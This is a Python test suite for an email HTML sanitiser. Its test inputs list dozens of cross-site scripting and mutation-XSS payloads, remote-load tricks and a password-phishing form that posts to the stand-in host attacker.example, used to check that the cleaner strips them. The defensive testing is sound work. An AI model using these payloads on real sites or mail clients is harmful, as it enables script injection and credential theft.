"""Nothing in the HTML that an agent sees runs, loads, or covers what is not the mail."""

import hashlib
import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from chalicelib.content import limits
from chalicelib.content.html_version import _ATTRIBUTES, _ELEMENTS, html_version_of, sanitised
from chalicelib.content.mime import read_mail
from tests.speed import within

PICTURE = b"\x89PNG picture"
DIGEST = hashlib.sha256(PICTURE).hexdigest()
PICTURES = {"logo@mail": PICTURE}

ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='cid:logo@mail' onload=alert(1)>",
    "<body onload=alert(1)>text",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='smb://attacker.example/share'>x</a>",
    "<a href='//attacker.example'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style><img src='</style><img src=x onerror=alert(1)>'>",
    "<title><img src='</title><img src=x onerror=alert(1)>'></title>",
    "<textarea><img src='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<xmp><img src='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if mso]><img src=x onerror=alert(1)><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://attacker.example/x.swf'></object>",
    "<embed src='https://attacker.example/x.swf'>",
    "<base href='https://attacker.example/'><a href='x'>x</a>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example'>",
    "<link rel=stylesheet href='https://attacker.example/x.css'>",
    "<link rel=prefetch href='https://attacker.example/x'>",
    "<form action='https://attacker.example'><input name=password><button>Go</button></form>",
    "<style>@import url(https://attacker.example/x.css);</style>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://attacker.example/x)'>x</div>",
    "<div class='toolbar' id='reply' name='x'>x</div>",
    "<table background='https://attacker.example/x.png'><tr><td background='//attacker.example/x'>x</td></tr></table>",
    "<video poster='https://attacker.example/x.png' src='https://attacker.example/x.mp4'></video>",
    "<audio src='https://attacker.example/x.mp3' autoplay></audio>",
    "<img srcset='https://attacker.example/x.png 1x' src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<picture><source srcset='https://attacker.example/x.png'><img src='https://attacker.example/y.png'></picture>",
    "<input type=image src='https://attacker.example/x.png'>",
    "<img src='#remote-7'> src=\"#remote-7\" <img src='https://attacker.example/x.png'>",
    "<a href='https://example.pl' onclick=alert(1) ping='https://attacker.example' target=_self>x</a>",
    "<p lang='\"><img src=x onerror=alert(1)>'>x</p>",
    "<img alt='\"><script>alert(1)</script>' src=x>",
    "<a href='https://example.pl/\"onmouseover=\"alert(1)'>x</a>",
    "<table><tr><td><a><table><a href='javascript:alert(1)'>x",
    "<b " + "x" * 5_000 + ">bold",
    '<img src="https://a.example/1" data-remote="https://a.example/2"><img data-remote=\'javascript:alert(1)\'>',
]
ALLOWED = {
    **{element: set(_ATTRIBUTES["*"]) | set(_ATTRIBUTES.get(element, ())) for element in _ELEMENTS},
    "html": set(),
    "head": set(),
    "body": set(),
}
ALLOWED["a"] |= {"rel", "target"}


def assert_harmless(source):
    page = LexborHTMLParser(f"<body>{source}</body>")
    for node in page.root.traverse(include_text=False):
        if not node.tag[:1].isalpha():
            continue
        assert node.tag in ALLOWED, source
        assert set(node.attributes) <= ALLOWED[node.tag], source
        assert re.match(r"(?:https?://|mailto:|tel:)", node.attributes.get("href", "tel:")), source
        assert node.attributes.get("src", f"#attachment-{DIGEST}") == f"#attachment-{DIGEST}", source
        assert re.match(r"(?:https?:)?//", node.attributes.get("data-remote", "//")), source


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_survives(attack):
    version = sanitised(f"<p>before</p>{attack}<p>after</p>", PICTURES)

    assert_harmless(version.source)
    assert "before" in version.source


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_is_harmless_stays_as_it_is(attack):
    once = sanitised(attack, PICTURES)

    assert once is not None
    assert sanitised(once.source, PICTURES) == once


PIECES = st.sampled_from(
    [
        *(
            "<p>",
            "</p>",
            "<div align=left>",
            "</div>",
            "<table>",
            "<tr>",
            "<td>",
            "</table>",
            "<a href='https://a.pl'>",
        ),
        *("</a>", "<svg>", "</svg>", "<math>", "<mtext>", "<style>", "</style>", "<noscript>", "</noscript>", "<!--"),
        *(
            "-->",
            "<img src=https://a.pl/x>",
            "<img src=cid:logo@mail>",
            "<img src=x onerror=y>",
            "text",
            "&lt;",
            "&amp;",
        ),
        *("<script>", "</script>", "'", '"', ">", "<", "<title>", "<select>", "<option>", "<form>", "</form>", "<li>"),
        *("<anna@example.pl>", "<mglyph>", "<template>", "<textarea>", "<plaintext>", "<b title='", "<xmp>", "\x00"),
    ]
)


@settings(max_examples=400)
@given(st.lists(PIECES, max_size=14).map("".join))
def test_no_mixture_of_pieces_survives_or_changes_when_it_is_cleaned_again(source):
    version = sanitised(source, PICTURES)

    assert version is not None
    assert_harmless(version.source)
    assert sanitised(version.source, PICTURES) == version


def test_remote_pictures_are_counted_and_named_but_not_loaded():
    version = sanitised('<img src="https://a.example/1.gif?x=1&amp;y=2" width="1"><img src="//b.example/2.gif">', {})

    assert version.remote_images == 2
    assert ' src="' not in version.source
    assert 'data-remote="https://a.example/1.gif?x=1&amp;y=2"' in version.source
    assert 'data-remote="//b.example/2.gif"' in version.source


def test_a_picture_of_the_same_message_is_named_by_its_digest_however_often_it_is_used():
    version = sanitised('<img src="cid:logo@mail">' * 500 + '<img src="cid:logo%40mail">', PICTURES)

    assert version.source.count(f'src="#attachment-{DIGEST}"') == 501
    assert version.remote_images == 0


@pytest.mark.parametrize("source", ["cid:other@mail", f"#attachment-{'0' * 64}", "#remote-1", "logo@mail", "x.png", ""])
def test_a_picture_of_another_message_is_not_shown(source):
    assert "src" not in sanitised(f'<img src="{source}" alt="a picture">', PICTURES).source


def test_links_open_outside_and_tell_nothing():
    version = sanitised('<a href="https://example.pl/x" title="t">here</a>', {})

    assert 'href="https://example.pl/x"' in version.source
    assert 'rel="noopener noreferrer nofollow"' in version.source
    assert 'target="_blank"' in version.source


def test_text_tables_and_lists_stay():
    page = '<h1>A</h1><table border="1"><tr><td colspan="2">b</td></tr></table><ol start="3"><li>c</li></ol>'

    assert sanitised(page, {}).source.replace("<tbody>", "").replace("</tbody>", "") == page


def test_an_address_that_is_not_escaped_is_text():
    assert "&lt;anna@example.pl&gt;" in sanitised("<p>From: Anna <anna@example.pl></p>", {}).source


def mail_with(page):
    return read_mail(b"From: a@b.pl\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + page.encode())


@pytest.mark.parametrize(
    "page",
    [
        "<p>x</p>" * (limits.LONGEST_HTML // 8 + 1),
        "<div>" * (limits.DEEPEST_HTML + 1) + "x",
        "<b>x</b>" * (limits.MOST_TAGS // 2 + 1),
        "<p " + " ".join(f"a{n}=1" for n in range(50_000)) + ">x",
        "&amp;" * (limits.MOST_ENTITIES + 1),
    ],
    ids=["large", "deep", "many tags", "many attributes", "many entities"],
)
def test_a_page_past_the_limits_is_not_shown_and_says_so(page):
    begun = time.process_time()
    version, repair = html_version_of(mail_with(page))

    assert version is None
    assert "too large or too deep" in repair
    assert within(time.process_time() - begun, 2)


def test_a_mail_without_html_has_no_version():
    assert html_version_of(read_mail(b"From: a@b.pl\r\n\r\ntext")) == (None, "")
